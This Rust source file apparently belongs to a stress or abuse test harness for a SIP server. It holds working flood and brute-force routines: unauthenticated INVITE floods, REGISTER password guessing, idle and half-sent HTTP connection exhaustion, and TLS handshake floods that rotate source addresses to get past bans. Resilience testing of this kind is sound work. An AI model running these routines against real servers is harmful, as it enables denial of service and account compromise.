//! Connections that flood, or do nothing.

use crate::abuse::attacker::{Done, Stands, Target, address, connect};
use crate::abuse::messages::{Draft, status};
use anyhow::Result;
use rustls::{ClientConfig, ClientConnection, pki_types::ServerName};
use std::{
    io::{ErrorKind, Read, Write},
    net::{Ipv4Addr, SocketAddr, TcpStream},
    sync::Arc,
    thread,
    time::Duration,
};

/// Connections that do nothing.
const IDLE: usize = 1_800;
/// HTTP requests that are half sent.
const HALF: usize = 1_000;
/// Handshakes at once.
const HANDSHAKES: usize = 200;
/// Between rounds of connections.
const PAUSE: Duration = Duration::from_millis(20);

/// INVITEs without credentials, and no ACK for any answer.
pub(super) fn invites(target: &Target) -> Result<Done> {
    let mut line = Line::new(target, address(0))?;
    let mut number = 0;
    while target.stands() {
        number += 1;
        let draft = line.draft("INVITE", number)?;
        line.says(target, &draft.text(0, ""));
        if number.is_multiple_of(64) {
            line.hears(|_| None::<()>);
        }
    }
    Ok(line.done)
}

/// Passwords for one user, over three connections.
pub(super) fn guesses(target: &Target) -> Result<Done> {
    let mut lines = (0..3)
        .map(|_| Line::new(target, address(0)))
        .collect::<Result<Vec<_>>>()?;
    let mut number = 0;
    let mut all = Done::default();
    while target.stands() {
        for line in &mut lines {
            number += 1;
            let draft = line.draft("REGISTER", number)?;
            line.says(target, &draft.text(0, ""));
            let wrong = line.hears(|heard| {
                let asked = status(heard, &draft.id) == Some(401);
                asked.then(|| draft.credentials(heard, "guess")).flatten()
            });
            if let Some(wrong) = wrong {
                line.says(target, &draft.text(1, &wrong));
            }
        }
    }
    for line in lines {
        all.sent += line.done.sent;
        all.sent_octets += line.done.sent_octets;
        all.got += line.done.got;
        all.got_octets += line.done.got_octets;
    }
    Ok(all)
}

/// A connection over which requests go, and which is made anew when it is closed.
struct Line {
    from: Ipv4Addr,
    stream: TcpStream,
    done: Done,
}

impl Line {
    fn new(target: &Target, from: Ipv4Addr) -> Result<Self> {
        Ok(Self {
            from,
            stream: Self::connected(target, from)?,
            done: Done::default(),
        })
    }

    fn connected(target: &Target, from: Ipv4Addr) -> Result<TcpStream> {
        let stream = connect(from, target.sip.into())?;
        stream.set_read_timeout(Some(Duration::from_millis(1)))?;
        // A server that does not read is not waited for when the attack is over.
        stream.set_write_timeout(Some(Duration::from_millis(100)))?;
        Ok(stream)
    }

    fn draft(&self, method: &'static str, number: u64) -> Result<Draft> {
        Ok(Draft {
            method,
            transport: "TCP",
            from: "u0".to_owned(),
            to: "u0".to_owned(),
            id: format!("x{number}"),
            at: self.stream.local_addr()?,
            wakeable: None,
        })
    }

    fn says(&mut self, target: &Target, text: &str) {
        let mut rest = text.as_bytes();
        while !rest.is_empty() && target.stands() {
            match self.stream.write(rest) {
                Ok(written) => rest = &rest[written..],
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => {
                    // Who does not read fast enough is cut off, and a ban may have come: it comes again.
                    thread::sleep(PAUSE);
                    if let Ok(stream) = Self::connected(target, self.from) {
                        self.stream = stream;
                    }
                    return;
                }
            }
        }
        self.done.sends(text.len());
    }

    fn hears<T>(&mut self, take: impl FnOnce(&[u8]) -> Option<T>) -> Option<T> {
        let mut buffer = vec![0; 1 << 16];
        let length = self.stream.read(&mut buffer).ok()?;
        self.done.gets(length);
        take(&buffer[..length])
    }
}

/// Connections over which nothing comes.
pub(super) fn idle(target: &Target) -> Done {
    held(target, target.sip.into(), (b"", IDLE), 1)
}

/// Requests whose end does not come.
pub(super) fn half_sent(target: &Target) -> Done {
    held(target, target.admin, (b"GET / HTTP/1.1\r\nHost:", HALF), 1)
}

/// Opens so many connections from so many addresses and says this; opens them again when they are closed.
pub(crate) fn held(
    attack: &impl Stands,
    to: SocketAddr,
    (said, most): (&[u8], usize),
    sources: u32,
) -> Done {
    let mut done = Done::default();
    let mut number = 0;
    let mut streams: Vec<TcpStream> = Vec::new();
    while attack.stands() {
        streams.retain(|stream| !is_over(stream));
        while streams.len() < most && attack.stands() {
            number += 1;
            let Ok(mut stream) = connect(address(number % sources), to) else {
                break;
            };
            // It may be closed already.
            let _ = stream.write_all(said);
            if stream.set_nonblocking(true).is_err() {
                break;
            }
            streams.push(stream);
            done.sent += 1;
        }
        thread::sleep(PAUSE);
    }
    done
}

/// Whether the server has closed it. What it said is read.
fn is_over(mut stream: &TcpStream) -> bool {
    let mut buffer = [0; 1024];
    loop {
        match stream.read(&mut buffer) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(error) => return error.kind() != ErrorKind::WouldBlock,
        }
    }
}

/// TLS begins, again and again, and then nothing comes: the work is the server's, since the attacker says the same each time and
/// reads no answer.
pub(super) fn handshakes(target: &Target, sources: u32) -> Result<Done> {
    hellos(target, target.doors.sip_tls, &target.tls, sources)
}

/// What somebody says first in TLS.
pub(crate) fn hello(tls: &Arc<ClientConfig>) -> Result<Vec<u8>> {
    let name = ServerName::try_from(crate::load::DOMAIN)?;
    let mut hello = Vec::new();
    let mut client = ClientConnection::new(tls.clone(), name)?;
    while client.wants_write() {
        client.write_tls(&mut hello)?;
    }
    Ok(hello)
}

/// See above.
pub(crate) fn hellos(
    attack: &impl Stands,
    to: SocketAddr,
    tls: &Arc<ClientConfig>,
    sources: u32,
) -> Result<Done> {
    let hello = hello(tls)?;
    let (mut done, mut number) = (Done::default(), 0);
    let mut streams: Vec<TcpStream> = Vec::new();
    while attack.stands() {
        // What was answered is closed; so the server works as fast as it can.
        streams.retain(|stream| {
            stream
                .peek(&mut [0])
                .is_err_and(|error| error.kind() == ErrorKind::WouldBlock)
        });
        while streams.len() < HANDSHAKES && attack.stands() {
            number += 1;
            let Ok(mut stream) = connect(address(number % sources), to) else {
                break;
            };
            // It may be closed already.
            if stream.write_all(&hello).is_ok() && stream.set_nonblocking(true).is_ok() {
                streams.push(stream);
                done.sends(hello.len());
            }
        }
        thread::yield_now();
    }
    Ok(done)
}
